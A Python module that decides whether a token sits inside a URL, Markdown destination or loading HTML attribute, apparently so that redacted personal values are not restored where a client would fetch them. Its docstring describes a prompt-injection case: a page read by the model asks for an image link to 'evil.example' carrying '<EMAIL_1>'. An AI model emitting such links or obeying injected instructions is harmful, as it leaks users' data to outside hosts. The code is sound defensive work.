"""Where nothing is restored: inside the address of an image or of a link, except `mailto:` and `tel:`.

A page that the model has read may ask for `![x](https://evil.example/?q=<EMAIL_1>)`; a client that renders it would
send the value away by itself. So the rule errs on the side of not restoring: a bare address ends at white space only,
any destination of a Markdown link or image counts, and so do the attributes of HTML that load or lead somewhere.

`inside_address` is a function of the text before a token alone, so a stream and a whole text agree.
"""

import re
from typing import Final

_URL: Final = re.compile(r"https?:(?:\\?/){2}|www\.", re.IGNORECASE)
_HARMLESS: Final = re.compile(r"\s*(?:mailto|tel):", re.IGNORECASE)
_DEFINITION: Final = re.compile(r"[ >]{0,6}\[[^\]\n]{1,999}\]:[ \t]*(?P<address>\S*)\Z")
_CSS_URL: Final = re.compile(r"url\(\s*[^)]*\Z", re.IGNORECASE)
_TAG: Final = re.compile(r"<[A-Za-z][^\s<>/=\"']*[\s/]")
_ATTRIBUTE: Final = re.compile(
    r"""\s*/?(?P<name>[^\s=>"'/]+)(?:\s*=\s*(?:"(?P<double>[^"]*)(?P<q>"|\Z)|'(?P<single>[^']*)(?P<s>'|\Z)"""
    r"""|(?P<bare>[^\s>"']*)))?"""
)
_LOADING: Final = frozenset(
    ["src", "href", "srcset", "imagesrcset", "action", "formaction", "poster", "background", "data", "cite", "xlink:href", "ping", "longdesc", "lowsrc", "dynsrc", "code", "codebase", "archive", "profile", "manifest", "icon", "content", "usemap", "classid"]
)
_WINDOW: Final = 65_536
"""Characters looked back at; a run without white space that fills it counts as an address."""
_MAX_ADDRESSES: Final = 16
"""Addresses looked at in one run without white space; a run with more counts as an address."""


def inside_address(before: str, *, in_json: bool = False) -> bool:
    """Say whether a token that follows `before` stands inside an address.

    Args:
        before: The text as it is shown so far.
        in_json: The text is JSON, where a string's closing quote ends an address too.
    """
    before = before[-_WINDOW:]
    run = _run(before, in_json=in_json)
    if len(run) == _WINDOW or run.count("](") + len(_URL.findall(run)) > _MAX_ADDRESSES:
        return True
    return (
        _in_bare_url(run, before)
        or _in_destination(before, run)
        or _in_definition(before)
        or ("url(" in before[-2048:].lower() and _CSS_URL.search(before[-2048:]) is not None)
        or ("<" in before and _in_attribute(before))
    )


def _run(before: str, *, in_json: bool) -> str:
    """Return the characters since the last white space (in JSON also since the last unescaped quote)."""
    if before[-1:].isspace():
        return ""
    run = before.rsplit(maxsplit=1)[-1] if before else ""
    if in_json:
        quote = run.rfind('"')
        while quote > 0 and run[quote - 1] == "\\":
            quote = run.rfind('"', 0, quote)
        run = run[quote + 1 :]
    return run


def _in_bare_url(run: str, before: str) -> bool:
    offset = len(before) - len(run)
    return any(not _is_closed(before, offset + found.start()) for found in _URL.finditer(run))


def _is_closed(before: str, start: int) -> bool:
    """Say whether an address that begins at `start` has ended: by its quote, `>` or Markdown parenthesis."""
    opener, rest = before[max(0, start - 1) : start], before[start:]
    if opener == "(" and before[start - 2 : start - 1] == "]":
        return _depth(rest) < 0
    if opener in ('"', "'", "`"):
        return opener in rest
    return opener == "<" and ">" in rest


def _depth(text: str) -> int:
    """Return -1 as soon as a parenthesis closes that was not opened in the text, else how many are open."""
    depth = 0
    escaped = False
    for character in text:
        if escaped:
            escaped = False
        elif character == "\\":
            escaped = True
        elif character == "(":
            depth += 1
        elif character == ")":
            depth -= 1
            if depth < 0:
                return -1
    return depth


def _in_destination(before: str, run: str) -> bool:
    """Say whether a Markdown destination `](...` is open: any in this run, and the last one that may hold blanks."""
    starts = [len(before) - len(run) + found.start() + 2 for found in re.finditer(r"\]\(", run)]
    last = before.rfind("](")
    if last >= 0 and last + 2 not in starts:
        starts.append(last + 2)
    return any(_destination_is_open(before[start:]) for start in starts)


def _destination_is_open(rest: str) -> bool:
    address = rest.lstrip(" \t\n")
    if address.startswith("<"):
        return re.search(r"[>\n]", address) is None and _HARMLESS.match(address, 1) is None
    if re.search(r"\s", address) or _depth(address) < 0:
        return False
    return _HARMLESS.match(address) is None


def _in_definition(before: str) -> bool:
    """Say whether the token stands in the address of a reference definition, `[x]: address`."""
    line = before[before.rfind("\n") + 1 :]
    found = _DEFINITION.match(line)
    return found is not None and _HARMLESS.match(found["address"]) is None


def _in_attribute(before: str) -> bool:
    """Say whether the text ends inside the value of an attribute that loads or leads somewhere."""
    position = 0
    while (tag := _TAG.search(before, position)) is not None:
        position = tag.end()
        while position < len(before):
            found = _ATTRIBUTE.match(before, position)
            if found is None:
                position += 1  # the end of the tag, or a stray quote or equals sign inside it
                if before[position - 1] == ">":
                    break
                continue
            position = found.end()
            is_open = found["q"] == "" or found["s"] == "" or (found["bare"] is not None and position == len(before))
            if is_open:
                return _leads_somewhere(found["name"], found["double"] or found["single"] or found["bare"] or "")
    return False


def _leads_somewhere(name: str, value: str) -> bool:
    return name.lower() in _LOADING and _HARMLESS.match(value) is None
